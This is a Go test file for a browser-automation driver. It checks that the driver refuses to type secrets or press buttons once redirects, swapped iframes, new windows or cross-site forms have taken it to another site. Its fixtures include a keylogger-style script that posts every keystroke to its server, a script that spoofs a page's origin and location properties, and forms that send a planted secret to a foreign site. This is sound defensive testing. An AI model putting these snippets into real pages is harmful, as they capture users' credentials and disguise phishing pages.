package page

import (
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/mailferry/mailferry/internal/rig"
	"github.com/mailferry/mailferry/internal/rig/chromium"
)

const secretText = "Zq7-made-up-Xw9"

// lookAlike is the form that every site here shows. It tells its own server all that is
// entered, at once.
const lookAlike = `<!doctype html><title>a form</title><h1>Outgoing Mail Connections</h1>
	<table><tr><th>Name<th>Actions<tr><td>one<td><button aria-haspopup=menu>⋯</button></table>
	<form onsubmit="return false"><label>Name <input id=name></label><label>Password <input id=password type=password autofocus></label>
	<label>Debug <input type=checkbox></label><label>Encryption <select><option>None<option>TLS</select></label><button>Save</button></form>
	<script>
		const tell = text => fetch('/typed', {method: 'POST', body: text});
		for (const kind of ['input', 'beforeinput', 'keydown', 'change']) addEventListener(kind, e => tell(kind + ' ' + (e.key || e.data || e.target.value)), true);
		addEventListener('click', e => e.isTrusted || tell('pressed ' + e.target.localName), true);
	</script>`

// trap is a site that keeps all that it is sent.
type trap struct {
	*httptest.Server
	mu   sync.Mutex
	sent strings.Builder
}

// newTrap serves pages by their path, and at every other path the form.
func newTrap(t *testing.T, pages map[string]string) *trap {
	t.Helper()
	y := &trap{}
	y.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		y.mu.Lock()
		fmt.Fprintln(&y.sent, r.URL, string(body))
		y.mu.Unlock()
		page, ok := pages[r.URL.Path]
		if !ok {
			page = lookAlike
		}
		if code, to, _ := strings.Cut(page, " "); strings.HasPrefix(code, "30") {
			status, _ := strconv.Atoi(code)
			http.Redirect(w, r, to, status)
			return
		}
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		fmt.Fprint(w, page)
	}))
	t.Cleanup(y.Close)
	return y
}

// local is the site by its other name.
func (y *trap) local() string { return strings.Replace(y.URL, "127.0.0.1", "localhost", 1) }

// gotNothing holds that nothing was entered into the site's page, and nothing pressed on it; s
// is the session that shows it.
func (y *trap) gotNothing(t *testing.T, s *session) {
	t.Helper()
	var holds string
	// What the page told before this is told by then, because a connection to the site answers in turn.
	rig.OK(t, s.evaluate(t.Context(), `fetch('/typed', {method: 'POST', body: 'the end'}).then(r => r.text()).then(() => Array.from(document.querySelectorAll('input'), i => i.value).join('|'))`, &holds))
	y.mu.Lock()
	defer y.mu.Unlock()
	if sent := y.sent.String(); strings.Contains(sent+holds, secretText[:3]) || strings.Contains(sent, "pressed") || strings.Contains(sent, "keydown") {
		t.Errorf("another site got %s and holds %q", sent, holds)
	}
	if !strings.Contains(y.sent.String(), "the end") {
		t.Error("the site was not shown, so this proves nothing")
	}
}

func at(t *testing.T, p *Page, origin string) {
	t.Helper()
	chromium.Until(t, "the browser is at "+origin, func() bool {
		address, err := p.Address(t.Context())
		return err == nil && strings.HasPrefix(address, origin+"/")
	})
	rig.OK(t, ignoreTransient(p.Settle(t.Context())))
}

// elsewhere holds that an error says that another site was reached, and names both.
func elsewhere(t *testing.T, err error, given, reached string) *ElsewhereError {
	t.Helper()
	var other *ElsewhereError
	if !errors.As(err, &other) || other.Given != given || other.Reached != reached {
		t.Fatalf("error %q, want one that names %s and %s", fmt.Sprint(err), given, reached)
	}
	fails(t, err, nil, given, reached)
	return other
}

func testLedElsewhere(t *testing.T, d *driver) {
	ctx := t.Context()
	y := newTrap(t, nil)
	for way, page := range map[string]string{
		"redirect": "302 " + y.URL + "/x", "meta": `<meta http-equiv=refresh content="0; url=` + y.URL + `/x">`,
		"script": `<script>location = '` + y.URL + `/x'</script>`, "timer": `<h1>Outgoing Mail Connections</h1><script>setTimeout(() => location = '` + y.URL + `/x', 20)</script>`,
		"form": `<form action="` + y.URL + `/x" method=post></form><script>document.forms[0].submit()</script>`,
	} {
		x := newTrap(t, map[string]string{"/": page})
		p := d.at(t, x.URL+"/")
		at(t, p, y.URL)
		_, form := p.Look(ctx)
		_, within := p.Within(ctx, Heading("Outgoing Mail Connections"))
		_, rows := p.Rows(ctx, "Name")
		for _, err := range []error{form, within, rows, p.Press(ctx, "Save"), p.Menu(ctx, "", "Edit"), p.WaitFor(ctx, HasField("Name")),
			p.EachRow(ctx, nil, []string{"Name"}, func(*Row) (bool, error) { return true, nil })} {
			t.Log("led by", way)
			elsewhere(t, err, x.URL, y.URL)
		}
		y.gotNothing(t, p.tab)
	}
	// The other name of the same machine is another site, and its own addresses are none.
	x := newTrap(t, map[string]string{"/": `302 /in`, "/in": lookAlike + `<script>history.pushState({}, '', '/elsewhere?x#y')</script>`})
	p := d.at(t, x.URL+"/")
	rig.OK(t, control(t, p.Scope, "Name").Set(ctx, "x"))
	rig.OK(t, p.Press(ctx, "Save"))
	p = d.at(t, x.URL+"/")
	var went bool
	rig.OK(t, p.tab.evaluate(ctx, `location = '`+x.local()+`/x', true`, &went))
	at(t, p, x.local())
	elsewhere(t, p.Press(ctx, "Save"), x.URL, x.local())
}

func testMovedUnderTheDriver(t *testing.T, d *driver) {
	ctx := t.Context()
	x, y := newTrap(t, nil), newTrap(t, nil)
	p := d.at(t, x.URL+"/")
	form := rig.Get(p.Look(ctx)).Or(t)
	find := func(label string) *Control { return rig.Get(form.Field(ctx, label)).Or(t) }
	name, password, debug, encryption := find("Name"), find("Password"), find("Debug"), find("Encryption")
	var went bool
	rig.OK(t, p.tab.evaluate(ctx, `location = '`+y.URL+`/x', true`, &went))
	at(t, p, y.URL)
	for _, err := range []error{name.Set(ctx, secretText), password.SetSecret(ctx, hidden(secretText)), debug.SetOn(ctx, true), encryption.Set(ctx, "TLS")} {
		elsewhere(t, err, x.URL, y.URL)
	}
	_, err := name.Get(ctx)
	elsewhere(t, err, x.URL, y.URL)
	y.gotNothing(t, p.tab)
}

// What the browser is told to type goes to where the cursor is, and a page may put it anywhere
// in the meantime.
func testCursorPutElsewhere(t *testing.T, d *driver) {
	ctx := t.Context()
	d.impatient(t, 2*time.Second)
	y := newTrap(t, map[string]string{"/x": `<label>Other <input id=i></label><script>onfocus = () => i.focus()</script>` + lookAlike[strings.Index(lookAlike, "<script>"):]})
	for where, script := range map[string]string{
		"another site's frame": `document.querySelector('iframe').focus()`,
		"another field":        `document.querySelector('#other').focus()`,
		"nowhere":              `this.blur()`,
	} {
		x := newTrap(t, map[string]string{"/": `<!doctype html><h1>Mine</h1><label>Password <input type=password onfocus="` + script + `"></label><input id=other><iframe src="` + y.local() + `/x"></iframe>`})
		p := d.at(t, x.URL+"/")
		rig.OK(t, p.WaitFor(ctx, HasField("Other")))
		rig.OK(t, p.Settle(ctx))
		err := control(t, rig.Get(p.Within(ctx, Heading("Mine"))).Or(t), "Password").SetSecret(ctx, hidden(secretText))
		var other string
		rig.OK(t, p.tab.evaluate(ctx, `document.querySelector('#other').value`, &other))
		if other != "" {
			t.Errorf("the cursor put into %s: another field holds %q", where, other)
		}
		for _, s := range p.frames {
			y.gotNothing(t, s)
		}
		fails(t, err, ErrRefused, "does not take the cursor")
	}
}

// forgery is a page that says of itself, wherever it can, that it is of another site.
func forgery(top, own string) string {
	return fmt.Sprintf(`<script>
		const set = (on, name, value) => { try { Object.defineProperty(on, name, {get: () => value, configurable: true}) } catch {} };
		for (const on of [window, Location.prototype, location, document, Document.prototype]) for (const name of ['origin', 'href', 'domain']) set(on, name, %q);
		set(DOMStringList.prototype, 'length', 1), set(DOMStringList.prototype, '0', %[2]q), set(Object.prototype, '0', %[2]q), set(Object.prototype, '1', %[2]q);
		set(Location.prototype, 'ancestorOrigins', [%[2]q]), set(location, 'ancestorOrigins', [%[2]q]);
		set(Node.prototype, 'ownerDocument', document), set(Node.prototype, 'isConnected', true);
		Function.prototype.apply = Function.prototype.call = function() { return {} };
	</script>`, own, top) + lookAlike
}

func testFrameReplaced(t *testing.T, d *driver) {
	ctx := t.Context()
	for way, script := range map[string]string{
		"its address is changed":         `document.querySelector('iframe').src = 'Y'`,
		"another frame is put there":     `document.querySelector('iframe').outerHTML = '<iframe src="Y"></iframe>'`,
		"it moves on by itself":          `document.querySelector('iframe').contentWindow.postMessage('Y', '*')`,
		"it is emptied":                  `document.querySelector('iframe').src = 'about:blank'`,
		"it is put into a sandbox":       `const f = document.querySelector('iframe'); f.sandbox = 'allow-scripts'; f.removeAttribute('src'); f.srcdoc = '<label>Name <input></label><label>Password <input type=password></label>'`,
		"a form is drawn into its place": `document.querySelector('iframe').replaceWith(document.querySelector('template').content.cloneNode(true))`,
	} {
		a := newTrap(t, map[string]string{"/app": lookAlike + `<script>onmessage = e => location = e.data</script>`})
		x := newTrap(t, map[string]string{"/": `<!doctype html><h1>Jira</h1><iframe src="` + a.local() + `/app"></iframe><template><form><label>Name <input></label><label>Password <input type=password></label></form></template>`})
		y := newTrap(t, map[string]string{"/x": forgery(x.URL, a.local())})
		p := d.at(t, x.URL+"/")
		app := rig.Get(p.Within(ctx, Heading("Outgoing Mail Connections"))).Or(t)
		rig.OK(t, app.CheckOrigin(a.local()))
		form := rig.Get(app.Look(ctx)).Or(t)
		name, password := rig.Get(form.Field(ctx, "Name")).Or(t), rig.Get(form.Field(ctx, "Password")).Or(t)
		rig.OK(t, name.Set(ctx, "in the right place"))
		var went bool
		rig.OK(t, p.tab.evaluate(ctx, strings.ReplaceAll(script, "Y", y.local()+"/x")+`, true`, &went))
		chromium.Until(t, "the frame is replaced", func() bool {
			docs, err := p.listDocuments(ctx)
			return err == nil && !slices.ContainsFunc(docs, func(doc *document) bool { return doc.url == a.local()+"/app" })
		})
		rig.OK(t, ignoreTransient(p.Settle(ctx)))
		for _, err := range []error{name.Set(ctx, secretText), password.SetSecret(ctx, hidden(secretText)), app.Press(ctx, "Save"), app.WaitFor(ctx, HasField("Name"))} {
			var other *ElsewhereError
			if !errors.As(err, &other) && !errors.Is(err, ErrGone) {
				t.Errorf("%s: %v", way, err)
			}
			if other != nil {
				elsewhere(t, err, x.URL, other.Reached)
				fails(t, err, nil, a.local())
			}
		}
		docs := rig.Get(p.listDocuments(ctx)).Or(t)
		for _, doc := range docs {
			if strings.HasPrefix(doc.url, y.local()) {
				y.gotNothing(t, doc.session)
			}
		}
		var holds string
		rig.OK(t, p.tab.evaluate(ctx, `Array.from(document.querySelectorAll('input'), i => i.value).join('')`, &holds))
		if holds != "" {
			t.Errorf("%s: the host page got %q", way, holds)
		}
	}
}

// A frame of another site inside the app's is no part of the app, though it shows what the app shows.
func testFrameOfAnotherSite(t *testing.T, d *driver) {
	ctx := t.Context()
	d.impatient(t, 2*time.Second)
	y := newTrap(t, nil)
	x := newTrap(t, map[string]string{"/": `<!doctype html><h1>Mine</h1><iframe src="` + y.local() + `/x"></iframe><iframe srcdoc="<label>Prefix <input></label>"></iframe>`})
	p := d.at(t, x.URL+"/")
	rig.OK(t, p.WaitFor(ctx, HasField("Password"), HasField("Prefix")))
	// What the frame shows is asked for once, and not waited for without end.
	rig.OK(t, poll(ctx, 10*time.Second, func() (bool, error) { return !p.tab.busy(time.Hour), nil }))
	app := rig.Get(p.Within(ctx, Heading("Mine"))).Or(t)
	rig.OK(t, control(t, app, "Prefix").Set(ctx, "a frame without an address is of the page's site"))
	_, err := fieldOf(ctx, app, "Password")
	fails(t, err, ErrAbsent)
	fails(t, app.Press(ctx, "Save"), ErrAbsent)
	fails(t, app.WaitFor(ctx, HasTable("Name")), ErrTimeout)
	for _, s := range p.frames {
		y.gotNothing(t, s)
	}
}

func testWindowOpened(t *testing.T, d *driver) {
	ctx := t.Context()
	d.impatient(t, 2*time.Second)
	y := newTrap(t, nil)
	x := newTrap(t, map[string]string{"/": `<!doctype html><h1>Mine</h1><button onclick="window.open('` + y.URL + `/x')">Add</button><a href="` + y.URL + `/x" target=_blank>Edit</a>`})
	p := d.at(t, x.URL+"/")
	rig.OK(t, p.Press(ctx, "Add"))
	fails(t, p.WaitFor(ctx, HasField("Password")), ErrTimeout, "Mine")
	rig.OK(t, p.Press(ctx, "Edit"))
	_, err := fieldOf(ctx, p.Scope, "Password")
	fails(t, err, ErrAbsent)
	y.mu.Lock()
	defer y.mu.Unlock()
	if !strings.Contains(y.sent.String(), "/x") || strings.Contains(y.sent.String(), "/typed") {
		t.Errorf("the window's site got %s", y.sent.String())
	}
}

func testFormsThatSendElsewhere(t *testing.T, d *driver) {
	ctx := t.Context()
	y := newTrap(t, map[string]string{"/empty": "<p>nothing"})
	for form, sends := range map[string]bool{
		`<form action="Y/x" method=post><button>Save</button></form>`:                                                              true,
		`<form action="Y/x"><input type=submit value=Save></form>`:                                                                 true,
		`<form action="//HOST/x"><button>Save</button></form>`:                                                                     true,
		`<form action="/here"><button formaction="Y/x">Save</button></form>`:                                                       true,
		`<form action="/here" id=f></form><button form=f formaction="Y/x">Save</button>`:                                           true,
		`<form action="Y/x" id=f></form><button form=f>Save</button>`:                                                              true,
		`<form action="Y/x"><input name=action value=/><input name=getAttribute><button>Save</button></form>`:                      true,
		`<form action="Y/x"><button type=button onclick="form.submit()">Save</button></form>`:                                      true,
		`<form action="Y/x"><span role=button onclick="this.closest('form').submit()">Save</span></form>`:                          true,
		`<base href="Y/"><form action="save"><button>Save</button></form>`:                                                         true,
		`<form action="mailto:anna@corp.example"><button>Save</button></form>`:                                                     true,
		`<form action="/here" target=_blank><button>Save</button></form>`:                                                          true,
		`<form action="/here"><button formtarget=other>Save</button></form>`:                                                       true,
		`<base target=_blank><form action="/here"><button>Save</button></form>`:                                                    true,
		`<iframe name=other src="Y/empty"></iframe><form action="/here" target=other><button>Save</button></form>`:                 true,
		`<form action="/here" onmousedown="this.action = 'Y/x'"><button>Save</button></form>`:                                      true,
		`<form action="/here" onfocusin="this.action = 'Y/x'"><button>Save</button></form>`:                                        true,
		`<form method=post><button>Save</button></form>`:                                                                           false,
		`<form action=""><button>Save</button></form>`:                                                                             false,
		`<base href="Y/"><form action=""><button>Save</button></form>`:                                                             false,
		`<form action="/here?to=Y" target=_self><button formtarget=_top>Save</button></form>`:                                      false,
		`<form action="javascript:void(0)"><button>Save</button></form>`:                                                           false,
		`<iframe name=other></iframe><form action="/here" target=other><button>Save</button></form>`:                               false,
		`<form action="Y/x"></form><button onclick="document.body.append('sent')">Save</button>`:                                   false,
		`<form action="/here" onsubmit="return false"><button formaction="/there">Save</button><button formaction="Y/">x</button>`: false,
	} {
		host := strings.TrimPrefix(y.URL, "http://")
		x := newTrap(t, map[string]string{"/": `<!doctype html><input name=secret form=f value=` + secretText + `>` + strings.NewReplacer("HOST", host, "Y", y.URL).Replace(form)})
		p := d.at(t, x.URL+"/")
		rig.OK(t, p.WaitFor(ctx, HasButton("Save")))
		err := rig.Get(p.Look(ctx)).Or(t).Send(ctx, "Save")
		if !sends {
			if err != nil {
				t.Errorf("%s: %v", form, err)
			}
			rig.OK(t, p.Settle(ctx)) // it goes where it goes
			continue
		}
		var other *ElsewhereError
		if !errors.As(err, &other) || other.Given != x.URL || other.Address != "" {
			t.Errorf("%s: %v", form, err)
		} else if strings.Contains(form, `ion="Y/x"`) && !strings.Contains(form, "base") {
			elsewhere(t, err, x.URL, y.URL)
		}
		if at := rig.Get(p.Address(ctx)).Or(t); at != x.URL+"/" {
			t.Errorf("%s: the browser went to %s", form, at)
		}
	}
	y.mu.Lock()
	defer y.mu.Unlock()
	if strings.Contains(y.sent.String(), secretText[:3]) {
		t.Errorf("another site was sent %s", y.sent.String())
	}
}

// A site may answer with the order to send the same again, to wherever it says.
func testSentOnElsewhere(t *testing.T, d *driver) {
	ctx := t.Context()
	const form = `<h1>Mine</h1><form action="/save" method=post><input name=secret value=` + secretText + `><button>Save</button></form>`
	const script = `<script>document.forms[0].onsubmit = e => { e.preventDefault(); fetch('WHERE', {method: 'POST', body: new FormData(e.target)}).catch(() => 0); }</script>`
	for name, test := range map[string]struct {
		form, save string
		framed     bool
		goesOn     bool
	}{
		"by a form":               {form, "307 Y/x", false, false},
		"by a form, for good":     {form, "308 Y/x", false, false},
		"by a form in two steps":  {form, "307 /on", false, false},
		"by a form in a frame":    {form, "307 Y/x", true, false},
		"by a script":             {form + strings.Replace(script, "WHERE", "/save", 1), "307 Y/x", false, false},
		"by a script in a frame":  {form + strings.Replace(script, "WHERE", "/save", 1), "308 Y/x", true, false},
		"to a page without it":    {form, "303 Y/x", false, false},
		"within the site":         {form, "307 /x", false, true},
		"by an app's own request": {form + strings.Replace(script, "WHERE", "Y/x", 1), "", false, true},
	} {
		y := newTrap(t, nil)
		at := strings.NewReplacer("Y", y.URL)
		x := newTrap(t, map[string]string{"/form": at.Replace(test.form), "/save": at.Replace(test.save), "/on": "307 " + y.URL + "/x"})
		given, path := x.URL, "/form"
		if test.framed {
			given, path = newTrap(t, map[string]string{"/": `<iframe src="` + x.local() + `/form"></iframe>`}).URL, "/"
		}
		p := d.at(t, given+path)
		app := rig.Get(p.Within(ctx, Heading("Mine"))).Or(t)
		rig.OK(t, rig.Get(app.Look(ctx)).Or(t).Send(ctx, "Save"))
		got := &x.sent
		if strings.Contains(test.form, "Y/x") {
			got = &y.sent
		}
		var err error
		chromium.Until(t, name, func() bool {
			_, err = app.Look(ctx)
			x.mu.Lock()
			y.mu.Lock()
			defer x.mu.Unlock()
			defer y.mu.Unlock()
			_, body, _ := strings.Cut(got.String(), "/x")
			return errors.As(err, new(*ElsewhereError)) || test.goesOn && strings.Contains(body, secretText)
		})
		if !test.goesOn {
			elsewhere(t, err, given, y.URL)
		}
		if !strings.Contains(test.form, "Y/x") && strings.Contains(y.sent.String(), secretText[:3]) {
			t.Errorf("%s: another site was sent %s", name, y.sent.String())
		}
		d.at(t, x.URL+"/") // what was is over
		_, err = d.browser.page.Look(ctx)
		rig.OK(t, err)
	}
}

// A form that goes to another site is no reason not to leave it.
func testCancelSendsNothing(t *testing.T, d *driver) {
	ctx := t.Context()
	x := newTrap(t, map[string]string{"/": `<form action="http://127.0.0.1:1/"><button type=button onclick="document.body.innerHTML = 'left'">Cancel</button><button>Revert</button></form>`})
	p := d.at(t, x.URL+"/")
	elsewhere(t, p.Press(ctx, "Revert"), x.URL, "http://127.0.0.1:1")
	rig.OK(t, p.Press(ctx, "Cancel"))
	rig.OK(t, p.WaitFor(ctx, Text("left")))
}

func testRenamedSite(t *testing.T, d *driver) {
	d.impatient(t, 2*time.Second)
	y := newTrap(t, map[string]string{"/login": `<h1>Log in</h1>`})
	x := newTrap(t, map[string]string{"/": "302 " + y.URL + "/new/place;j=hunter2?token=hunter2#x", "/private": "302 " + y.URL + "/login?token=hunter2"})
	in := Heading("Outgoing Mail Connections")
	other := elsewhere(t, d.at(t, x.URL+"/").WaitSignedIn(t.Context(), nil, in), x.URL, y.URL)
	if !other.App || other.Address != y.URL+"/new/place" {
		t.Errorf("%+v", other)
	}
	other = elsewhere(t, d.at(t, x.URL+"/private").WaitSignedIn(t.Context(), nil, in), x.URL, y.URL)
	if other.App || other.Address != y.URL+"/login" || strings.Contains(other.Error(), "hunter2") {
		t.Errorf("%+v", other)
	}
}

func TestASignInMayLeadOverOtherSites(t *testing.T) {
	port, _ := chromium.Lend(t)
	b := open(t, Options{Attach: port})
	ctx := t.Context()
	pages := map[string]string{"/in": lookAlike}
	x := newTrap(t, pages)
	// The page where people sign in has a word of the app's for a moment, as portals do.
	y := newTrap(t, map[string]string{"/": `<h1>Outgoing Mail Connections</h1><button onclick="location = '` + x.URL + `/in'">Log in</button>`})
	pages["/"] = "302 " + y.URL + "/"
	p := rig.Get(b.Goto(ctx, x.URL+"/")).Or(t)
	b.options.Timeout = 2 * time.Second // of the waits in vain alone: a busy machine takes longer to begin
	rig.OK(t, p.WaitSignedIn(ctx, func(text string) {
		if !strings.Contains(text, "now at "+y.URL) || !strings.Contains(text, "the app at "+x.URL) {
			t.Errorf("asked: %s", text)
		}
		var pressed bool
		rig.OK(t, p.tab.evaluate(ctx, `document.querySelector('button').click(), true`, &pressed))
	}, Heading("Outgoing Mail Connections")))
	rig.OK(t, control(t, p.Scope, "Name").Set(ctx, "x"))

	// One that stays at another site is told, also where a person could go on.
	p = rig.Get(b.Goto(ctx, x.URL+"/")).Or(t)
	elsewhere(t, p.WaitSignedIn(ctx, func(string) {}, Heading("Outgoing Mail Connections")), x.URL, y.URL)
}

// What is the same site is for the browser to say.
func testOriginsAsBrowsersWriteThem(t *testing.T, d *driver) {
	p := d.at(t, d.host+"fields.html")
	for _, address := range []string{
		"https://jira.corp.example", "HTTPS://Jira.Corp.Example:443/x?y#z", "http://jira.corp.example:80/", "https://jira.corp.example:80/", "http://x:443",
		"https://jira.corp.example:8443/a:b@c", "https://jira.corp.example./", "http://[0:0::1]:8080/", "http://127.0.0.1:1",
		"https://bücher.example/", "https://BÜCHER.example:444/", "https://xn--bcher-kva.example/", "https://straße.example", "https://a_b.example/",
	} {
		var want string
		rig.OK(t, p.tab.evaluate(t.Context(), fmt.Sprintf("new URL(%q).origin", address), &want))
		u, err := url.Parse(address)
		rig.OK(t, err)
		if got := originOf(u); got != want {
			t.Errorf("%s is of %s, want %s", address, got, want)
		}
	}
}
